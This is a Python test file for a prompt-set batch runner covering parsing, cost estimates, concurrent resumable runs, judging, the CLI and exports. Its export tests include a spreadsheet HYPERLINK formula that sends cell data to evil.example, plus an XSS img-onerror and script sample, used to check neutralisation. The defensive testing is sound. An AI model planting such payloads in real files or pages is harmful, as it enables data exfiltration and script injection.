"""Prompt sets: the parser (every bad file named, with its row), the estimate against a hand count, the
run (concurrent within each provider's limit, a 429 honoured, a failed cell beside answered ones, every
cell stored as it lands, resumed without asking a finished cell again, leased), the judge on the
bundled model, the store's privacy, and ``python -m council batch``'s JSON and exit codes."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from adapters import GenerationParams
from council.__main__ import main
from council.facts import pricing
from council.runs import batch, exports, routing, set_worker
from council.runs.prompt_sets import PromptSet, SetError, SetRow, from_csv, from_jsonl, from_lines, read
from council.runs.providers import Connection
from council.runs.records import Answer
from council.runs.turns import TurnMetrics
from council.settings import RetrySettings
from council.storage import prompt_sets as store
from council.untrusted import FORMULA_STARTS
from tests.fakes.server import json_reply
from tests.test_untrusted_exports import assert_no_html_or_remote_image

ROOT = Path(__file__).resolve().parents[1]
KEYS = {"openai": "sk-SetsCanary0123456789abcdef", "groq": "gsk_SetsCanary0123456789abcdef"}


# ---- the parser --------------------------------------------------------------------------------------


def test_pasted_lines_and_a_text_file_are_one_prompt_a_line():
    s = from_lines("What is 2+2?\n\n  Name a colour.  \n")
    assert [(r.id, r.prompt) for r in s.rows] == [("1", "What is 2+2?"), ("2", "Name a colour.")]
    assert read(b"One\nTwo\n", "qa.txt").name == "qa" and len(read(b"One\nTwo\n", "qa.txt").rows) == 2


def test_a_csv_template_is_filled_from_its_columns():
    s = from_csv(
        'id,prompt,system,expected,city\nq1,"What is the capital of {{ city }}?",Answer in one word.,Paris,France\nq2,Where is {{city}}?,,,Peru\n'
    )
    assert s.variables == ["city"]
    assert [r.filled_prompt for r in s.rows] == ["What is the capital of France?", "Where is Peru?"]
    assert s.rows[0].filled_system == "Answer in one word." and s.rows[0].expected == "Paris"
    assert PromptSet.from_dict(s.to_dict()) == s  # saved and read back as it was


def test_a_jsonl_set_reads_every_column():
    s = from_jsonl('{"prompt": "Say {{word}}", "word": "hi", "id": 7}\n\n{"prompt": "Again"}\n')
    assert [(r.id, r.filled_prompt) for r in s.rows] == [("7", "Say hi"), ("2", "Again")]


@pytest.mark.parametrize(
    ("data", "name", "said"),
    [
        (b"question,answer\nWhat?,That\n", "s.csv", "no \u201cprompt\u201d column (its first line names the columns: question, answer)"),
        (
            b"prompt,city\nCapital of {{country}}?,Paris\n",
            "s.csv",
            "Row 1 (line 2) uses {{country}}, but no column \u201ccountry\u201d fills it",
        ),
        (b"prompt,id\nFirst,a\n,b\n", "s.csv", "Row 2 (line 3) has no prompt"),
        (b"prompt,id\nFirst,a\nSecond,a\n", "s.csv", "Row 2 (line 3) has the id \u201ca\u201d, which row 1 has too"),
        (b"prompt,city\nCapital of {{city}}?,\n", "s.csv", "Row 1 (line 2) leaves \u201ccity\u201d empty"),
        (b'{"prompt": "ok"}\nnot json\n', "s.jsonl", "Line 2 is not a JSON object"),
        (b"caf\xe9 au lait?\n", "s.txt", "not UTF-8 text (line 1"),
        (b"\n\n", "s.txt", "The set has no prompts"),
        (b"x" * (5 * 1024 * 1024 + 1), "s.txt", "a set may be at most 5 MB"),
    ],
)
def test_a_bad_set_is_refused_in_one_sentence_naming_the_row(data, name, said):
    with pytest.raises(SetError) as caught:
        read(data, name)
    assert said in str(caught.value)


# ---- before Run ------------------------------------------------------------------------------------


def test_the_estimate_matches_a_hand_count():
    s = from_lines("What is 2+2?\nName a colour.\nWhy is the sky blue?\n")
    params = GenerationParams(max_new_tokens=100)
    plan = batch.Plan(s, [batch.Column("openai", "gpt-4o-mini", params), batch.Column("local", "SmolLM2-135M-Instruct", params)])
    est = batch.estimate(plan, Connection(tokens={}, base_urls={}))
    tokens_in = sum(
        len(p) // 4 + 4 for p in ("What is 2+2?", "Name a colour.", "Why is the sky blue?")
    )  # 4 characters a token, 4 a message
    price_in, price_out = pricing.prices("openai", "gpt-4o-mini")
    openai = est.columns[0]
    assert (openai.requests, openai.tokens_in, openai.tokens_out) == (3, tokens_in, 300)
    assert openai.cost_usd == pytest.approx((tokens_in * price_in + 300 * price_out) / 1e6)
    assert est.columns[1].cost_usd == 0.0 and est.requests == 6 and est.by_provider()["local"] == (3, 0.0)


# ---- the run ---------------------------------------------------------------------------------------


@pytest.fixture
def remote(monkeypatch, fake_openai, fake_groq):
    monkeypatch.setenv("OPENAI_BASE_URL", fake_openai.url + "/v1")
    monkeypatch.setenv("GROQ_BASE_URL", fake_groq.url + "/openai/v1")
    journal: list = []
    for name, fake in (("openai", fake_openai), ("groq", fake_groq)):
        fake.journal, fake.name = journal, name
    return Connection(tokens=dict(KEYS), base_urls={}, visitor_is_local=True), journal


def _slow(fake, seconds: float) -> None:
    original = fake.default

    def slowed(route, path, headers, body):
        reply = original(route, path, headers, body)
        if route == "chat":
            reply.delay_s = seconds
        return reply

    fake.default = slowed


def _start(prompt_set: PromptSet, columns: list[batch.Column], **kw) -> tuple[int, batch.Plan]:
    plan = batch.Plan(prompt_set, columns, **kw)
    set_id = store.save_set(prompt_set.name or "test", [r.to_dict() for r in prompt_set.rows])
    return store.create_run(set_id, plan.to_dict()), plan


async def test_cells_run_at_once_within_each_providers_limit_and_every_cell_is_stored(remote, fake_openai, fake_groq):
    conn, journal = remote
    _slow(fake_openai, 0.3)
    _slow(fake_groq, 0.3)
    rows = from_lines("\n".join(f"Question {i}?" for i in range(8)))
    run_id, _ = _start(rows, [batch.Column("openai", "gpt-4o-mini"), batch.Column("groq", "openai/gpt-oss-20b")], concurrency=3)
    progress = await set_worker.work(run_id, set_worker.Work(conn, RetrySettings(2, 5.0)))
    assert progress is not None and (progress.done, progress.failed) == (16, 0)
    assert fake_openai.max_open == 3 and fake_groq.max_open == 3  # up to the limit, never above it
    events = [(e, n) for e, n, route in journal if route == "chat"]
    first_done = next(i for i, (e, _) in enumerate(events) if e == "done")
    assert {n for e, n in events[:first_done]} == {"openai", "groq"}  # both providers at once
    cells = store.cells(run_id)
    assert len(cells) == 16 and all(batch.cell_answer(c).text.startswith("Hi from") for c in cells.values())
    assert store.load_run(run_id).status == store.DONE


async def test_a_429_is_honoured_and_a_failed_cell_stands_beside_answered_ones(remote, fake_openai):
    conn, _ = remote
    fake_openai.enqueue("chat", json_reply(429, {"error": {"message": "Rate limit reached", "type": "requests"}}, {"retry-after": "1"}))
    rows = from_lines("First?\nSecond?\nThird?")
    columns = [batch.Column("openai", "gpt-4o-mini"), batch.Column("openai", "fake/missing")]
    run_id, plan = _start(rows, columns, concurrency=1)
    await set_worker.work(run_id, set_worker.Work(conn, RetrySettings(3, 10.0)))
    cells = store.cells(run_id)
    answers = {key: batch.cell_answer(body) for key, body in cells.items()}
    assert all(answers[(r, 0)].text.startswith("Hi from") for r in range(3))
    assert sum(a.waits for a in (answers[(r, 0)] for r in range(3))) >= 1  # one waited out the 429, then answered
    assert all(answers[(r, 1)].error["kind"] == "not_found" for r in range(3))  # its own failure, the others unharmed
    doc = batch.document(plan, cells)
    assert [s["answered"] for s in doc["summary"]] == [3, 0] and [s["failed"] for s in doc["summary"]] == [0, 3]


async def test_a_run_resumes_without_asking_a_finished_cell_again_and_a_failed_cell_is_retried_alone(remote, fake_openai):
    conn, _ = remote
    rows = from_lines("One?\nTwo?\nThree?\nFour?")
    run_id, _ = _start(rows, [batch.Column("openai", "gpt-4o-mini")], concurrency=1)
    stop = threading.Event()
    asked: list[int] = []

    def on_cell(r: int, c: int, answer) -> None:
        asked.append(r)
        if len(asked) == 2:
            stop.set()  # Stop after two cells

    await set_worker.work(run_id, set_worker.Work(conn), stop=stop, on_cell=on_cell)
    assert store.load_run(run_id).status == store.STOPPED and len(store.cells(run_id)) == 2
    before = len(fake_openai.requests_to("chat"))
    store.reopen(run_id)
    await set_worker.work(run_id, set_worker.Work(conn))
    assert len(fake_openai.requests_to("chat")) - before == 2  # only the two missing cells
    assert store.load_run(run_id).status == store.DONE and len(store.cells(run_id)) == 4
    # one cell again, alone (e.g. after a failure): one request, the rest untouched
    store.reopen(run_id)
    await set_worker.work(run_id, set_worker.Work(conn), only={(1, 0)})
    assert len(fake_openai.requests_to("chat")) - before == 3


def test_a_run_is_leased_by_one_holder_and_a_dead_holders_run_is_taken_over(backend):
    run_id, _ = _start(from_lines("Hi?"), [batch.Column("simulator", "sim-echo")])
    now = time.time()
    assert store.lease(run_id, "server-a", 60, now=now)
    assert not store.lease(run_id, "server-b", 60, now=now + 30)  # server-a holds it
    assert store.lease(run_id, "server-a", 60, now=now + 30)  # a renewal
    assert store.lease(run_id, "server-b", 60, now=now + 91)  # server-a's lease ran out: taken over


def test_sets_and_runs_are_their_owners_only(backend):
    set_id = store.save_set("mine", [{"id": "1", "prompt": "Hi?"}], person="alice")
    run_id = store.create_run(set_id, {"set": {}}, person="alice")
    assert store.load_set(set_id, person="bob") is None and store.load_set(name="mine", person="bob") is None
    assert store.load_run(run_id, person="bob") is None and store.runs_of(set_id, person="bob") == []
    store.delete_set(set_id, person="bob")
    assert store.load_set(set_id, person="alice") is not None  # bob cannot delete it either
    assert [s.name for s in store.sets(person="alice")] == ["mine"] and store.sets(person="bob") == []
    store.put_cell(run_id, 0, 0, "failed", {"text": ""})
    store.put_cell(run_id, 0, 0, "answered", {"text": "Hi."})  # asked again: it replaces its earlier self
    assert store.cells(run_id) == {(0, 0): {"text": "Hi."}} and store.cell_counts(run_id) == {"answered": 1}
    assert store.delete_person("alice") == 1 and store.cells(run_id) == {} and store.sets(person="alice") == []


async def test_the_judge_on_the_bundled_model_gives_every_answer_a_score_1_to_5(bundled_model):
    rows = PromptSet("judged", [SetRow("1", "What is the capital of France?", expected="Paris"), SetRow("2", "Name a primary colour.")])
    judge = batch.Column(routing.LOCAL, routing.LOCAL_MODEL, GenerationParams(temperature=0.0, max_new_tokens=120))
    run_id, plan = _start(rows, [batch.Column("simulator", "sim-echo")], judge=judge, rubric="Correct and brief.")
    await set_worker.work(run_id, set_worker.Work(Connection(tokens={}, base_urls={})))
    verdicts = [body["judge"] for body in store.cells(run_id).values()]
    assert len(verdicts) == 2
    for verdict in verdicts:
        assert verdict["method"] == "grammar" and isinstance(verdict["score"], int) and 1 <= verdict["score"] <= 5
    assert all(s["mean_score"] is not None and 1 <= s["mean_score"] <= 5 for s in batch.document(plan, store.cells(run_id))["summary"])


# ---- the command -----------------------------------------------------------------------------------


def test_the_command_prints_the_contracts_document_and_writes_a_formula_safe_csv(tmp_path, capsys):
    source = tmp_path / "qa.csv"
    source.write_text('id,prompt\na,"=HYPERLINK(""http://evil.example/?""&A1)"\nb,Say hi\n', encoding="utf-8")
    out = tmp_path / "run.csv"
    code = main(["batch", str(source), "--model", "simulator:sim-echo", "--json", "--out", str(out)])
    doc = json.loads(capsys.readouterr().out)
    assert code == 0 and doc["schema_version"] == 1 and doc["set"] == {"name": "qa", "rows": 2} and doc["models"] == ["simulator:sim-echo"]
    assert [r["id"] for r in doc["rows"]] == ["a", "b"] and doc["judge"] is None
    cell = doc["rows"][1]["cells"][0]
    assert set(cell) == {
        "model",
        "answered_by",
        "text",
        "error",
        "latency_s",
        "ttft_s",
        "prompt_tokens",
        "completion_tokens",
        "cost_usd",
        "cached",
        "judge",
    }
    assert set(doc["summary"][0]) == {"model", "answered", "failed", "median_latency_s", "p95_latency_s", "cost_usd", "mean_score"}
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == 2 and all(not v.startswith(FORMULA_STARTS) for row in rows for v in row.values() if v)
    assert rows[0]["prompt"].startswith("'=HYPERLINK")
    assert [s.name for s in store.sets()] == ["qa"] and len(store.runs_of(store.sets()[0].id)) == 1  # kept as a run of its set


def test_the_command_exits_1_when_a_cell_failed_and_2_for_a_bad_set(tmp_path, capsys, monkeypatch, remote, fake_openai):
    source = tmp_path / "qa.txt"
    source.write_text("One?\nTwo?\n", encoding="utf-8")
    monkeypatch.setenv("OPENAI_API_KEY", KEYS["openai"])
    monkeypatch.setenv("GROQ_API_KEY", KEYS["groq"])
    assert main(["batch", str(source), "--model", "groq:fake/missing", "--json"]) == 1
    doc = json.loads(capsys.readouterr().out)
    assert all(r["cells"][0]["error"]["kind"] == "not_found" for r in doc["rows"])  # the document is still whole
    bad = tmp_path / "bad.csv"
    bad.write_text("prompt,x\nHello {{y}},1\n", encoding="utf-8")
    sent = len(fake_openai.requests_to("chat"))
    assert main(["batch", str(bad), "--model", "openai:gpt-4o-mini"]) == 2
    assert "Row 1 (line 2) uses {{y}}" in capsys.readouterr().err and len(fake_openai.requests_to("chat")) == sent  # nothing sent
    assert main(["batch", str(source), "--model", "nonsense"]) == 2


def test_a_run_survives_its_process_being_killed_and_is_resumed_by_the_next_holder(tmp_path, remote, fake_openai):
    """The command is killed mid-run (as a server would die): the cells it wrote are kept, and the next
    holder — once the dead one's lease has run out — asks only the rest, each once."""
    conn, _ = remote
    _slow(fake_openai, 0.4)
    source = tmp_path / "many.txt"
    source.write_text("\n".join(f"Question {i}?" for i in range(10)), encoding="utf-8")
    env = {**os.environ, "OPENAI_API_KEY": KEYS["openai"], "PYTHONPATH": str(ROOT)}
    child = subprocess.Popen(
        [sys.executable, "-m", "council", "batch", str(source), "--model", "openai:gpt-4o-mini", "--concurrency", "1"],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.time() + 60
        while time.time() < deadline:
            runs = store.unfinished()
            if runs and len(store.cells(runs[0])) >= 3:
                break
            time.sleep(0.1)
        os.kill(child.pid, signal.SIGKILL)
    finally:
        child.wait(10)
    (run_id,) = store.unfinished()
    kept = len(store.cells(run_id))
    assert 3 <= kept < 10 and not store.lease_free(run_id)  # the dead holder's lease still stands
    assert asyncio.run(set_worker.work(run_id, set_worker.Work(conn), owner="next-server")) is None  # not yet
    assert store.lease(run_id, "next-server", 60, now=time.time() + set_worker.LEASE_S + 1)  # …once it ran out
    sent = len(fake_openai.requests_to("chat"))
    asyncio.run(set_worker.work(run_id, set_worker.Work(conn), owner="next-server"))
    assert len(store.cells(run_id)) == 10 and store.load_run(run_id).status == store.DONE
    assert len(fake_openai.requests_to("chat")) - sent == 10 - kept  # only what was missing (an in-flight one once more)


def test_every_prompt_set_export_neutralises_formulas():
    plan = batch.Plan(from_lines("=1+1\n@SUM(A1)"), [batch.Column("simulator", "sim-echo")])
    doc = batch.document(plan, {})
    rows = list(csv.DictReader(io.StringIO(exports.prompt_set_csv(doc))))
    assert [r["prompt"] for r in rows] == ["'=1+1", "'@SUM(A1)"]
    cells = {(0, 0): batch.cell_body(Answer("simulator", "sim-echo", text="<img src=x onerror=alert(1)> ![x](http://evil.example/a.png)"))}
    assert_no_html_or_remote_image(
        exports.prompt_set_markdown({**batch.document(plan, cells), "set": {"name": "<script>x</script>", "rows": 2}})
    )


# ---- the page --------------------------------------------------------------------------------------


def _wait_for(run_id: int, seconds: float = 60) -> None:
    deadline = time.time() + seconds
    while set_worker.is_running(run_id) and time.time() < deadline:
        time.sleep(0.05)
    assert not set_worker.is_running(run_id), "the run did not finish"


def test_the_page_runs_a_pasted_set_on_the_server_and_shows_the_grid_scores_and_exports():
    from tests.helpers import shown_text, start

    at = start()
    at.switch_page("pages/prompt_sets.py").run()
    assert not at.exception, at.exception
    at.text_area(key="w_ps_paste").input('What is 2+2?\nName a colour.\n=HYPERLINK("http://evil.example")').run()
    at.button(key="btn_ps_paste").click().run()
    assert not at.exception, at.exception
    at.selectbox(key="w_ps0_provider").set_value("simulator").run()
    text = shown_text(at)
    assert "Before you run: 3 answers, 3 requests in all" in text
    estimate = next(d.value for d in at.dataframe if "Requests" in d.value.columns)
    assert estimate["Requests"].tolist() == [3] and estimate["Already cached"].tolist() == [0]  # the estimate, per model
    at.button(key="btn_ps_run").click().run()
    assert not at.exception, at.exception
    run_id = at.session_state["ps_run_id"]
    _wait_for(run_id)  # the run belongs to the server: the script run that started it is long over
    at.run()
    assert not at.exception, at.exception
    (bar,) = at.get("progress")
    assert bar.proto.text == "3 of 3 answers \u00b7 0 failed" and bar.proto.value == 100
    grid = next(d.value for d in at.dataframe if "Prompt" in d.value.columns)
    assert grid["Prompt"].tolist()[:2] == ["What is 2+2?", "Name a colour."]
    assert all(str(v).startswith("This is the QA simulator") for v in grid.iloc[:, 2])
    # your own score on one cell, kept in the store
    at.segmented_control(key="w_ps_human").set_value("pass").run()
    at.text_input(key="w_ps_note").input("Fine.").run()
    at.button(key="btn_ps_score").click().run()
    assert not at.exception, at.exception
    assert store.cells(run_id)[(0, 0)]["human"] == {"score": "pass", "note": "Fine."}
    # the exports are built from the same document; the CSV is formula-safe
    doc = batch.document(batch.Plan.from_dict(store.load_run(run_id).plan), store.cells(run_id))
    rows = list(csv.DictReader(io.StringIO(exports.prompt_set_csv(doc))))
    assert rows[2]["prompt"].startswith("'=HYPERLINK")
    assert [b.label for b in at.get("download_button")][-3:] == ["CSV", "JSON", "Markdown"]


def test_a_bad_paste_is_refused_in_words_and_nothing_runs():
    from tests.helpers import start

    at = start()
    at.switch_page("pages/prompt_sets.py").run()
    at.button(key="btn_ps_paste").click().run()
    assert not at.exception, at.exception
    assert any("The set has no prompts" in e.value for e in at.error)
    assert "ps_run_id" not in at.session_state and store.unfinished() == []


def test_a_run_left_unfinished_resumes_at_the_first_page_load(monkeypatch):
    """A server restart: the run's row says running, nobody holds it; the first page load works it to the end."""
    from tests.helpers import start

    monkeypatch.setattr(set_worker, "_resumed", False)
    run_id, _ = _start(from_lines("One?\nTwo?"), [batch.Column("simulator", "sim-echo")])
    store.put_cell(run_id, 0, 0, batch.ANSWERED, batch.cell_body(Answer("simulator", "sim-echo", text="Kept from before.")))
    at = start()
    assert not at.exception, at.exception
    _wait_for(run_id)
    cells = store.cells(run_id)
    assert cells[(0, 0)]["text"] == "Kept from before." and cells[(1, 0)]["text"].startswith("This is the QA simulator")
    assert store.load_run(run_id).status == store.DONE


# ---- the council as a column -----------------------------------------------------------------------


async def test_the_council_is_a_column_and_the_judge_says_whether_it_pays_off():
    seats = batch.Seats(
        "fast",
        tuple(routing.offline_members(2, routing.SIMULATOR, routing.SIMULATOR_MODEL)),
        routing.offline_chair(routing.SIMULATOR, routing.SIMULATOR_MODEL),
    )
    judge = batch.Column(routing.LOCAL, routing.LOCAL_MODEL, GenerationParams(temperature=0.0, max_new_tokens=120))
    columns = [batch.Column("simulator", "sim-echo"), batch.Column.council(seats)]
    run_id, plan = _start(PromptSet("council", [SetRow("q", "Why is the sky blue?")]), columns, judge=judge)
    assert batch.Plan.from_dict(store.load_run(run_id).plan) == plan  # the seats are kept with the run
    est = batch.estimate(plan, Connection(tokens={}, base_urls={}))
    assert est.columns[1].requests == 5  # two answers, two reviews, one synthesis
    await set_worker.work(run_id, set_worker.Work(Connection(tokens={}, base_urls={})))
    cells = store.cells(run_id)
    council = cells[(0, 1)]
    assert batch.cell_answer(council).text and council["council"]["requests"] >= 5
    assert all(1 <= m["judge"]["score"] <= 5 for m in council["council"]["members"])  # its members were judged too
    doc = batch.document(plan, cells)
    assert doc["models"] == ["simulator:sim-echo", "council"] and doc["rows"][0]["cells"][1]["answered_by"] == "council"
    assert doc["requests"] == 1 + council["council"]["requests"]
    (line,) = batch.council_pays_off(plan, cells)
    assert line["model"] == "simulator:sim-echo" and line["prompts"] == 2  # both members ran on the simulator
    assert line["council_above"] + line["council_below"] <= 2 and line["request_multiple"] >= 5


def test_the_command_seats_the_council_by_its_mode(tmp_path):
    import argparse

    from council.cli import batch as command

    args = argparse.Namespace(model=["simulator:sim-echo"], council=True, mode="fast", judge=None)
    columns, judge = command._columns(args, Connection(tokens={}, base_urls={}))
    assert [c.key for c in columns] == ["simulator:sim-echo", "council"] and judge is None
    assert columns[1].seats.mode == "fast" and len(columns[1].seats.members) == 2  # fast: two members


def test_a_seat_reads_back_from_its_key():
    for member in [*routing.offline_members(4), routing.offline_chair(), routing.Member("groq", "openai/gpt-oss-20b")]:
        assert routing.member_from_key(member.key) == member
    with pytest.raises(ValueError):
        routing.member_from_key("local:SmolLM2-135M-Instruct (The impostor)")


# ---- run it again ----------------------------------------------------------------------------------


def _cells(texts: dict[tuple[int, int], str | None]) -> dict[tuple[int, int], dict]:
    """Cells by hand: a text, or None for a failure."""
    out = {}
    for (r, c), text in texts.items():
        error = None if text is not None else {"kind": "unavailable", "status": 503, "message": "Down."}
        answer = Answer("groq", "m1", text=text or "", error=error, metrics=TurnMetrics(latency_s=1.0 + r), cost_usd=0.001)
        out[(r, c)] = batch.cell_body(answer) | {"judge": {"score": 4 if text else None, "reason": "", "method": "schema"}}
    return out


def test_two_runs_of_a_set_side_by_side_say_what_changed():
    rows = from_lines("One?\nTwo?\nThree?")
    plan = batch.Plan(rows, [batch.Column("groq", "m1")])
    before = batch.document(plan, _cells({(0, 0): "Alpha.", (1, 0): "Beta.", (2, 0): None}))
    after = batch.document(plan, _cells({(0, 0): "Alpha.", (1, 0): None, (2, 0): "Gamma."}))
    (change,) = batch.regression(before, after)
    assert change["model"] == "groq:m1" and change["changed"] == ["2", "3"]
    assert change["new_failures"] == ["2"] and change["fixed"] == ["3"]
    assert change["score_delta"] == 0 and change["cost_delta_usd"] == 0
    other = batch.document(batch.Plan(rows, [batch.Column("openai", "gpt-4o-mini")]), {})
    assert batch.regression(before, other) == []  # no model in common: nothing to compare


def test_a_retiring_model_is_replayed_on_its_successor():
    plan = batch.Plan(from_lines("Hi?"), [batch.Column("groq", "old-model"), batch.Column("openai", "gpt-4o-mini")])
    newer = batch.replay_on_successors(plan, lambda provider, model: "new-model" if model == "old-model" else None)
    assert [c.key for c in newer.columns] == ["groq:new-model", "openai:gpt-4o-mini"] and newer.prompt_set == plan.prompt_set
    assert batch.replay_on_successors(plan, lambda provider, model: None) is None


def test_the_page_shows_an_earlier_run_beside_this_one():
    from tests.helpers import shown_text, start

    rows = from_lines("One?\nTwo?")
    first, _ = _start(rows, [batch.Column("simulator", "sim-echo")])
    for (r, c), body in _cells({(0, 0): "Alpha.", (1, 0): "Beta."}).items():
        store.put_cell(first, r, c, batch.ANSWERED, body)
    store.set_status(first, store.DONE)
    second = store.create_run(store.load_run(first).set_id, store.load_run(first).plan)
    for (r, c), body in _cells({(0, 0): "Alpha.", (1, 0): None}).items():
        store.put_cell(second, r, c, batch.FAILED if body["text"] == "" else batch.ANSWERED, body)
    store.set_status(second, store.DONE)
    at = start()
    at.query_params["run"] = str(second)
    at.switch_page("pages/prompt_sets.py").run()
    assert not at.exception, at.exception
    assert "Compare with an earlier run" in shown_text(at)
    table = next(d.value for d in at.dataframe if "Answers changed" in d.value.columns)
    assert table["Answers changed"].tolist() == [1] and table["New failures"].tolist() == ["2"]


def test_the_estimate_names_the_share_of_the_hosts_caps_and_warns_before_going_over():
    from council.runs import caps

    standing = caps.CapState(caps.Caps(requests_per_day=10, usd_per_month=1.0), "bo", requests_today=8, usd_month=0.5, host_usd_month=3.0)
    needs = {"groq": (6, 0.2), "local": (6, 0.0)}
    found = caps.shares(standing, needs, lambda provider: provider == "groq")  # only Groq goes with the host's key
    assert [(s.words, s.over) for s in found] == [
        ("your daily cap on the host's keys: 6 of 2 requests left", True),
        ("your monthly cap: $0.2000 of $0.50 left", False),
    ]
    assert caps.shares(standing, {"local": (6, 0.0)}, lambda provider: False) == []  # nothing on the host's keys


def test_the_tables_edits_apply_once_to_the_rows_it_was_drawn_from():
    from council.runs.prompt_sets import apply_edits

    base = [{"id": "1", "prompt": "One?"}, {"id": "2", "prompt": "Two?"}, {"id": "3", "prompt": "Three?"}]
    change = {"edited_rows": {0: {"prompt": "First?"}}, "deleted_rows": [1], "added_rows": [{"prompt": "Four?", "id": None}]}
    once = apply_edits(base, change)
    assert [r["prompt"] for r in once] == ["First?", "Three?", "Four?"] and once[2]["id"] == ""
    assert apply_edits(base, change) == once and base[0]["prompt"] == "One?"  # the same list again: the same rows, base untouched


def test_a_rows_attachment_beside_the_set_goes_with_its_prompt(tmp_path, capsys):
    from PIL import Image

    Image.new("RGB", (64, 48), (10, 200, 10)).save(tmp_path / "green.png")
    (tmp_path / "qa.csv").write_text("id,prompt,attachment\n1,What colour is this?,green.png\n2,No file here?,\n", encoding="utf-8")
    assert main(["batch", str(tmp_path / "qa.csv"), "--model", "simulator:sim-echo", "--json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert "Attached: green.png (an image, 64\u00d748 px)" in doc["rows"][0]["cells"][0]["text"]
    assert "Attached" not in doc["rows"][1]["cells"][0]["text"]
    (tmp_path / "bad.csv").write_text("prompt,attachment\nWhat is this?,missing.png\n", encoding="utf-8")
    assert main(["batch", str(tmp_path / "bad.csv"), "--model", "simulator:sim-echo"]) == 2
    assert "Row 1 attaches \u201cmissing.png\u201d, which is not a file beside the set" in capsys.readouterr().err


def test_a_judges_free_text_reply_is_read_by_its_most_explicit_score():
    from council.runs import judge

    assert judge.read("The answer lists 3 colours. Score: 5/5 - complete", "text") == judge.Verdict(5, "complete", "text")
    assert judge.read("4/5, mostly right", "text") == judge.Verdict(4, "mostly right", "text")
    assert judge.read('{"score": 2, "reason": "wrong capital"}', "schema") == judge.Verdict(2, "wrong capital", "schema")
    assert judge.read("I cannot judge this.", "text") is None and judge.read('{"score": 7}', "schema") is None
